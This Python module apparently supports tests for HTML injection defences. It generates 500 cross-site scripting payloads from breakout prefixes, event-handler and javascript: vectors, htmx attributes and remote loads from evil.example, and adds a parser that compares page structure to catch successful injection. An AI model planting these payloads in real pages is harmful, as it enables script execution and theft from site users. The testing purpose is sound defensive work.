"""What people type who want a page to run it: 500 texts made from parts, and who finds them out."""

from html.parser import HTMLParser

BREAKS = [
    "",
    '"',
    "'",
    "`",
    "-->",
    "</script>",
    "</textarea>",
    "</title>",
    "</style>",
    "]]>",
    "\\",
    "%3C",
    "&lt;",
    "{{",
    "${",
]
ELEMENTS = [
    "<script>xq7()</script>",
    "<script src=//evil.example/xq7.js></script>",
    "<img src=x onerror=xq7()>",
    "<svg onload=xq7()>",
    "<svg><script>xq7()</script></svg>",
    "<body onload=xq7()>",
    "<iframe srcdoc='<script>xq7()</script>'>",
    "<iframe src=javascript:xq7()>",
    "<a href=javascript:xq7()>x</a>",
    "<a href='jav&#x09;ascript:xq7()'>x</a>",
    "<form action=javascript:xq7()><button>x",
    "<button formaction=javascript:xq7()>x",
    "<details open ontoggle=xq7()>",
    "<input autofocus onfocus=xq7()>",
    "<video><source onerror=xq7()></video>",
    "<object data=javascript:xq7()>",
    "<embed src=javascript:xq7()>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css'</style>",
    "<div hx-get=/ hx-trigger=load hx-on:load=xq7()>",
    "<div hx-on::load='xq7()'>",
    "<math><mtext><img src onerror=xq7()>",
    "<noscript><p title='</noscript><img src onerror=xq7()>'>",
    "<xq7 onpointerenter=xq7()>",
]
ATTRIBUTES = [
    " onmouseover=xq7() x=",
    " autofocus onfocus=xq7() ",
    " style=background:url(//evil.example) ",
    " hx-on:click=xq7() ",
    " hx-vals='js:{x: xq7()}' ",
    " srcdoc=x href=javascript:xq7() ",
    "javascript:xq7()",
    "data:text/html,<script>xq7()</script>",
]


def payloads(count: int = 500) -> list[str]:
    """Different texts of at most 80 characters, the worst kinds first."""
    made = [f"{end}>{what}" if end in {'"', "'"} else f"{end}{what}" for what in ELEMENTS for end in BREAKS]
    made += [f"{end}{what}{end}" for what in ATTRIBUTES for end in BREAKS]
    made += [what.upper() for what in ELEMENTS] + [what.replace(" ", "/") for what in ELEMENTS]
    made += [what.replace("<", "\uff1c").replace("=", "\u200b=") for what in ELEMENTS]
    fitting = list(dict.fromkeys(text.strip() for text in made if len(text) <= 80))
    assert len(fitting) >= count
    return fitting[:count]


class Skeleton(HTMLParser):
    """The elements of a page with the names of their attributes: what a text may never change.

    Addresses are kept by their scheme, and what htmx would read as a program by its text.
    """

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.parts: list[tuple] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        names = tuple(sorted(name for name, _ in attrs))
        self.parts.append((tag, names, tuple(_scheme(value) for name, value in attrs if name in LINKS)))

    def handle_comment(self, data: str) -> None:
        self.parts.append(("comment",))


LINKS = {"href", "src", "action", "formaction", "data", "srcdoc", "hx-get", "hx-post"}


def _scheme(value: str | None) -> str:
    text = "".join((value or "").split()).lower()
    head = text.split("/")[0].split("?")[0].split("#")[0]
    return head.split(":")[0] if ":" in head else ""


def skeleton(html: str) -> list[tuple]:
    reader = Skeleton()
    reader.feed(html)
    reader.close()
    return reader.parts
